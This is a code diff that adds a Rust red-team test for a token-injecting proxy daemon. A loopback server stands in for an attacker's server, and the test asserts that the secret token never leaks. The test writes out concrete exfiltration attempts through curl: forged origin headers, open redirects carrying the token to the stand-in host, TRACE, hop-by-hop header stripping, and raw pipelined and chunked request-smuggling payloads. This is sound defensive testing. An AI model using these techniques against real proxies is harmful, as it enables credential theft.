@@ -903,3 +903,158 @@ fn node_http_request_over_the_socket() {
         Some(token.as_str())
     );
 }
+
+/// A listener on loopback standing in for the script's own server: counts
+/// connections and keeps every byte.
+struct Catcher {
+    port: u16,
+    seen: std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
+    connections: std::sync::Arc<std::sync::atomic::AtomicUsize>,
+}
+
+impl Catcher {
+    fn start() -> Catcher {
+        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = l.local_addr().unwrap().port();
+        let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+        let connections = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+        let (s2, c2) = (seen.clone(), connections.clone());
+        std::thread::spawn(move || {
+            for mut s in l.incoming().flatten() {
+                c2.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+                s.set_read_timeout(Some(Duration::from_millis(500))).ok();
+                let mut buf = [0u8; 4096];
+                while let Ok(n) = s.read(&mut buf) {
+                    if n == 0 {
+                        break;
+                    }
+                    s2.lock().unwrap().extend_from_slice(&buf[..n]);
+                }
+                let _ = s.write_all(b"HTTP/1.1 204 No Content\r\n\r\n");
+            }
+        });
+        Catcher {
+            port,
+            seen,
+            connections,
+        }
+    }
+}
+
+/// Red team of the front: a script of vaultd's uid that talks only to the
+/// sockets and to its own loopback server tries to get a byte of the token
+/// sent to its server or returned to itself. Every attempt is refused or
+/// comes back redacted, and the script's server sees no connection.
+#[test]
+fn redteam_front_a_script_with_its_own_loopback_server_gets_nothing() {
+    let up = Upstream::plain();
+    let token = canary("red");
+    let d = daemon_with(&up, &token, &[]);
+    let sock = front(&d);
+    let catcher = Catcher::start();
+    let mine = format!("http://127.0.0.1:{}", catcher.port);
+    let enc = |s: &str| {
+        s.replace(':', "%3A")
+            .replace('/', "%2F")
+            .replace('?', "%3F")
+            .replace('=', "%3D")
+    };
+    let mut received: Vec<Vec<u8>> = Vec::new();
+    // Through curl (which, with --unix-socket, sends every hop to the front).
+    let attempts: Vec<(String, Vec<String>)> = vec![
+        (
+            "http://mr/echo".into(),
+            vec!["-H".into(), format!("Tokenvault-Origin: {mine}")],
+        ),
+        (format!("http://127.0.0.1:{}/echo", catcher.port), vec![]),
+        (
+            "http://mr/echo".into(),
+            vec!["--request-target".into(), format!("{mine}/echo")],
+        ),
+        (
+            format!("http://mr/redirect?to={}", enc(&format!("{mine}/x"))),
+            vec!["-L".into()],
+        ),
+        (
+            format!(
+                "http://mr/redirect?code=307&to={}",
+                enc(&format!("{mine}/x"))
+            ),
+            vec!["-L".into(), "-d".into(), "x".into()],
+        ),
+        (
+            format!(
+                "http://mr/redirect-echo?to={}",
+                enc(&format!("{mine}/?t=TOKEN"))
+            ),
+            vec!["-L".into()],
+        ),
+        (
+            "http://mr/redirect-echo?to=%2F%2F127.0.0.1%3A1%2FTOKEN".into(),
+            vec!["-L".into(), "--max-redirs".into(), "2".into()],
+        ),
+        (
+            "http://mr//127.0.0.1/echo".into(),
+            vec!["--path-as-is".into()],
+        ),
+        ("http://mr/echo".into(), vec!["-X".into(), "TRACE".into()]),
+        ("http://mr/echo".into(), vec!["-I".into()]),
+        (
+            "http://mr/echo".into(),
+            vec!["-H".into(), "Connection: close, access-token".into()],
+        ),
+        (
+            "http://mr/echo".into(),
+            vec![
+                "-H".into(),
+                format!("Tokenvault-Origin: {}", up.origin().to_uppercase()),
+            ],
+        ),
+        (
+            "http://mr/echo-form?form=json-u".into(),
+            vec!["--http1.0".into()],
+        ),
+    ];
+    for (url, args) in &attempts {
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        let out = Command::new("curl")
+            .args(["-sS", "-i", "--max-time", "20", "--unix-socket"])
+            .arg(&sock)
+            .args(&args)
+            .arg(url)
+            .output()
+            .unwrap();
+        let mut all = out.stdout.clone();
+        all.extend_from_slice(&out.stderr);
+        eprintln!(
+            "{url} {args:?}: {}",
+            String::from_utf8_lossy(&out.stdout)
+                .lines()
+                .next()
+                .unwrap_or("")
+        );
+        received.push(all);
+    }
+    // Raw: pipelined requests in one write, and a chunked body that looks
+    // like a request after the last chunk.
+    let pipelined = b"GET /echo HTTP/1.1\r\nHost: mr\r\n\r\nGET /echo-encoded HTTP/1.1\r\nHost: mr\r\n\r\nPOST /echo HTTP/1.1\r\nHost: mr\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\nGET /echo HTTP/1.1\r\nHost: mr\r\nConnection: close\r\n\r\n";
+    received.push(raw(&sock, pipelined));
+    for r in &received {
+        assert_clean("red team", r);
+    }
+    assert_eq!(
+        catcher
+            .connections
+            .load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "the script's server got: {}",
+        String::from_utf8_lossy(&catcher.seen.lock().unwrap())
+    );
+    // The upstream did get the token, every time it was reached.
+    assert!(
+        up.requests()
+            .iter()
+            .all(|r| r.header("access-token").as_deref() == Some(token.as_str()))
+    );
+    d.assert_log_clean();
+}
